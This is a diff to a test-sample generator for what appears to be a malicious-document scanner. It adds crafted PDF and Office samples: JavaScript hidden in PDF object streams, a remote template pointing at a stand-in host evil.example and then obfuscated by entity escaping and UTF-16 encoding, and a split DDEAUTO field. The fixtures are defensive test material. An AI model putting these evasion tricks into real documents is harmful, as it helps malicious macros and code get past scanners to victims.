@@ -31,6 +31,8 @@ def document_samples() -> list[Sample]:
     odt = "application/vnd.oasis.opendocument.text"
     script = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
     packed = documents.pdf_stream(b"/Type /ObjStm /N 1 /First 4", b"4 0 " + script)
+    odd = documents.pdf_stream(b"/Type /ObjStm /DecodeParms << /Predictor 12 >>", script)
+    bad = documents.pdf_stream(b"/Type /ObjStm", script).replace(b"x\x9c", b"x\x9c\xff")
     attached = documents.pdf_stream(b"/Type /EmbeddedFile", PE)
     sheet = documents.workbook_stream((0x85, b"\0\0\0\0\0\1\1\0M"))
     plain_sheet = documents.workbook_stream((0x85, b"\0\0\0\0\0\0\1\0S"))
@@ -44,6 +46,11 @@ def document_samples() -> list[Sample]:
         b'<Relationships><Relationship Type="http://x/attachedTemplate" '
         b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
     )
+    escaped = template.replace(b"attachedTemplate", b"attached&#84;emplate").replace(
+        b'"External"', b"'External'"
+    )
+    wide = b"\xff\xfe" + template.decode().encode("utf-16-le")
+    fields = b'<w xmlns:w="w"><w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\x</w:instrText></w>'
     macro_types = "application/vnd.ms-word.document.macroEnabled.main+xml"
     renamed = "application/vnd.ms-office.vbaProject"
     make = documents.make_pdf
@@ -69,6 +76,11 @@ def document_samples() -> list[Sample]:
             UNSCANNABLE,
         ),
         sample("attached.pdf", make(attached), pdf, ARCHIVE, EXECUTABLE),
+        sample("unnamed.pdf", make(documents.pdf_stream(b"", PE)), pdf, ARCHIVE, EXECUTABLE),
+        sample("odd.pdf", make(odd, script), pdf, MACROS, UNSCANNABLE),
+        sample(
+            "broken.pdf", make(packed.replace(b"\nendstream", b"x\nendstream"), bad), pdf, MACROS, UNSCANNABLE
+        ),
         sample("rating.pdf", make(b"<< /Title (rated AAA/AA by all) >>"), pdf),
         sample("more.pdf", PDF + b"secret", pdf, TRAILING),
         sample("cut.pdf", PDF[:-20], pdf, UNSCANNABLE),
@@ -116,6 +128,11 @@ def document_samples() -> list[Sample]:
         sample(
             "template.docx", documents.make_docx({"word/_rels/settings.xml.rels": template}), docx, MACROS
         ),
+        sample("escaped.docx", documents.make_docx({"word/_rels/settings.xml.rels": escaped}), docx, MACROS),
+        sample("utf16.docx", documents.make_docx({"word/_rels/settings.xml.rels": wide}), docx, MACROS),
+        sample("dde.docx", documents.make_docx({"word/footer1.xml": fields}), docx, MACROS),
+        sample("word-dde.docx", documents.make_docx({"word/footer1.xml": b"<p>We bid for DDE</p>"}), docx),
+        sample("no-xml.docx", documents.make_docx({"word/footer1.xml": b"<p>"}), docx, UNSCANNABLE),
         sample("program.docx", documents.make_docx({"word/embeddings/oleObject1.bin": PE}), docx, EXECUTABLE),
         sample(
             "picture.docx",
@@ -125,12 +142,11 @@ def document_samples() -> list[Sample]:
         ),
         sample("locked.docx", locked, ole, ENCRYPTED, UNSCANNABLE),
         sample("a.odt", documents.make_odt(), odt),
-        sample(
-            "macro.odt", documents.make_odt({"Basic/Standard/Module1.xml": b"<script:module/>"}), odt, MACROS
-        ),
+        sample("empty.odt", documents.make_odt({"Configurations2/accelerator/current.xml": b""}), odt),
+        sample("macro.odt", documents.make_odt({"Basic/Standard/Module1.xml": b"<module/>"}), odt, MACROS),
         sample(
             "locked.odt",
-            documents.make_odt(manifest=b"<manifest:encryption-data/>"),
+            documents.make_odt(manifest=b"<encryption-data/>"),
             odt,
             ENCRYPTED,
             UNSCANNABLE,
